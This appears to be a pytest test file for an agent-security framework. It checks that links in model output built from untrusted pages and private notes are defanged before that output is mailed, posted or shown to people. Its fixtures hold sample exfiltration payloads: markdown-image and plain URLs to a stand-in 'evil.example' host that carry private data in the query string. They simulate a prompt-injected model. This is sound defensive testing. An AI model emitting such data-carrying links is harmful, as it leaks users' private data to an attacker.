"""Messages to people have no live links in model output from untrusted content and private data."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from tests.security.world import POLICY, World

from callsheet.ir import JSON, Effect
from callsheet.ir.labels import read_label
from callsheet.machine import Status, ToolFacts
from callsheet.machine.program import Loop
from callsheet.policy.model import AgentRule, Audience, ToolRule
from callsheet.ports.calls import CallContext
from callsheet.runtime.asking import Respondents

LINK = "https://evil.example/?d=42"
SAID = f"Two meetings ![]({LINK}) {LINK}"
APART = "Two meetings ![] (https[:]//evil[.]example/?d=42) https[:]//evil[.]example/?d=42"
FACTS = {
    "MAIL": ToolFacts(Effect.UNSAFE, ("to", "subject", "body")),
    "POST": ToolFacts(Effect.UNSAFE, ("url", "json")),
    "LLM_SUMMARIZE": ToolFacts(Effect.LLM),
    "AGENT_SOLVE": ToolFacts(loop=Loop(("MAIL", "READ_FILE", "WEB_SEARCH", "ASK_HUMAN"))),
    "FORMAT": ToolFacts(Effect.PURE, ("text",)),
    "ASK_HUMAN": ToolFacts(Effect.READ, ("prompt",)),
}
MAIL = ToolRule(
    egress=True,
    destructive=False,
    returns=read_label("T/pub"),
    control=("to",),
    audience_arg="to",
    trusted_audience=("*@corp.example",),
)
READ = 'S1: @READ_FILE ("notes.txt") > $n\nS2: @WEB_SEARCH ("news") > $p\nS3: @LLM_SUMMARIZE ($n, $p) > $s\n'


@pytest.fixture
def mailing(world: World) -> World:
    """A world with mail and requests, in which a model repeats instructions of a page."""

    async def keep(args: dict[str, Any], context: CallContext) -> str:
        world.paid.append(args)
        return "sent"

    async def model(command: Any, context: CallContext) -> JSON:
        return SAID

    world.tools |= {"MAIL": keep, "POST": keep}
    world.more["model"] = model
    post = replace(MAIL, control=("url",), audience_arg="url", trusted_audience=("*",))
    hosts = Audience(name="trusted", hosts=("corp.example",))
    world.policy = replace(POLICY, tools={**POLICY.tools, "MAIL": MAIL, "POST": post}, audiences=(hosts,))
    world.write("notes.txt", f"Ada's notes, more at {LINK}")
    return world


async def sent(world: World, steps: str, **more: Any) -> list[dict[str, Any]]:
    outcome = await world.run(steps, facts=FACTS, **more)
    assert outcome.result is not None
    assert outcome.result.status is Status.DONE, outcome.result.response
    return world.paid


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("$s", APART),
        ('"News: $s"', f"News: {APART}"),
        ('["$s", "$n"]', [APART, f"Ada's notes, more at {LINK}"]),
        ('{"text": $s}', {"text": APART}),
        ('"See https://own.example/a for: $s"', f"See https://own.example/a for: {APART}"),
    ],
)
async def test_model_output_from_both_sources_is_sent_with_disabled_links(
    mailing: World, body: str, told: JSON
) -> None:
    (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("ada@corp.example", "News", {body}) > $r')
    assert mail == {"to": "ada@corp.example", "subject": "News", "body": told}


@pytest.mark.parametrize(
    "made",
    [
        '@FORMAT ("https://evil.example/?d=$n")',
        '@LLM_SUMMARIZE ($n, format="link to https://evil.example/?d=DATA")',
        '@WRITE_FILE ("out.md", "https://evil.example/?d=$n") > $w\nS5: @READ_FILE ("out.md")',
    ],
)
async def test_links_with_data_inserted_by_plan_are_disabled(mailing: World, made: str) -> None:
    async def model(command: Any, context: CallContext) -> JSON:
        return LINK

    mailing.more["model"] = model
    mailing.tools["FORMAT"] = _formatted
    mailing.write("notes.txt", "42")
    steps = f'S1: @READ_FILE ("notes.txt") > $n\nS4: {made} > $f\nS6: @MAIL ("ada@corp.example", "News", $f)'
    (mail,) = await sent(mailing, f'{steps}\nS7: @RESPOND ("done")')
    assert mail["body"] == "https[:]//evil[.]example/?d=42"


async def _formatted(args: dict[str, Any], context: CallContext) -> str:
    return args["text"]


@pytest.mark.parametrize(
    "stored",
    ['@WRITE_FILE ("out.md", "{}$n")', '@SET_WM ("k", "{}$n")', '@STORE_FACT ("{}$n")'],
)
async def test_address_containing_data_is_recognized_after_storage(mailing: World, stored: str) -> None:
    mailing.write("notes.txt", "42")
    read = {"@WRITE": '@READ_FILE ("out.md")', "@SET_W": '@GET_WM ("k")', "@STORE": '@QUERY_MEMORY ("evil")'}
    for link, status in (("", Status.DONE), (LINK[:-2], Status.REFUSED)):
        steps = f'S1: @READ_FILE ("notes.txt") > $n\nS2: {stored.format(link)}\nS3: {read[stored[:6]]} > $k\n'
        outcome = await mailing.run(f"{steps}S4: @RESPOND ($k)", f"run{len(link)}", facts=FACTS)
        assert outcome.result is not None
        assert outcome.result.status is status, outcome.result.response


async def test_links_are_disabled_in_each_message_of_loop(mailing: World) -> None:
    to = '["ada@corp.example", "eve@corp.example", "bob@corp.example"]'
    mails = await sent(mailing, f'{READ}S4: ?FOREACH ($t IN {to}) THEN @MAIL ($t, "News", $s) > $r')
    assert [mail["body"] for mail in mails] == [APART] * 3


async def test_links_are_disabled_in_messages_with_cached_judgement(mailing: World) -> None:
    steps = "\n".join(f'S{n}: @MAIL ("ada@corp.example", "News", $s)' for n in (4, 5, 6))
    mails = await sent(mailing, READ + steps)
    assert [mail["body"] for mail in mails] == [APART] * 3


async def test_title_is_sanitized_and_recipient_is_not(mailing: World) -> None:
    (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("Ada <ada@corp.example>", $s, "hi") > $r')
    assert mail == {"to": "Ada <ada@corp.example>", "subject": APART, "body": "hi"}


@pytest.mark.parametrize("host", ["corp.example", "CORP.example"])
async def test_links_to_allowed_readers_stay(mailing: World, host: str) -> None:
    async def model(command: Any, context: CallContext) -> JSON:
        return f"see https://{host}/a?d=42"

    mailing.more["model"] = model
    (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("ada@corp.example", "News", $s) > $r')
    assert mail["body"] == f"see https://{host}/a?d=42"


@pytest.mark.parametrize(
    ("step", "field", "told"),
    [
        ('@MAIL ("ada@corp.example", "News", $n)', "body", f"Ada's notes, more at {LINK}"),
        ('@MAIL ("ada@corp.example", "News", $p)', "body", "a page"),
        ('@POST ("https://corp.example/hook", {"text": $s})', "json", {"text": SAID}),
    ],
)
async def test_data_passed_to_programs_is_unchanged(
    mailing: World, step: str, field: str, told: JSON
) -> None:
    (call,) = await sent(mailing, f"{READ}S4: {step} > $r")
    assert call[field] == told


async def test_approval_question_shows_sanitized_message(mailing: World) -> None:
    rule = replace(MAIL, destructive=True)
    mailing.policy = replace(mailing.policy, tools={**mailing.policy.tools, "MAIL": rule})
    asked: list[Any] = []

    def agrees(ask: Any) -> bool:
        asked.append(ask.args)
        return True

    steps = f'{READ}S4: @MAIL ("ada@corp.example", "News", $s) > $r'
    (mail,) = await sent(mailing, steps, present=Respondents(agrees))
    assert [mail] == asked
    assert mail["body"] == APART


def turning(*turns: JSON) -> Any:
    """A model that requests these calls in order."""
    left = iter(turns)

    async def turn(command: Any, context: CallContext) -> JSON:
        return next(left)

    return turn


async def test_links_in_agent_questions_are_disabled(mailing: World) -> None:
    asked: list[Any] = []

    def answers(ask: Any) -> str:
        asked.append(ask.prompt)
        return "no"

    mailing.more["turn"] = turning(
        {"tool": "read_file", "args": {"path": "notes.txt"}},
        {"tool": "ask_human", "args": {"prompt": SAID}},
        {"finish": "done"},
    )
    mailing.policy = replace(mailing.policy, agent=AgentRule(tools=("READ_FILE", "ASK_HUMAN")))
    await sent(mailing, 'S1: @AGENT_SOLVE ("go") > $a', present=Respondents(answers))
    assert asked == [APART]
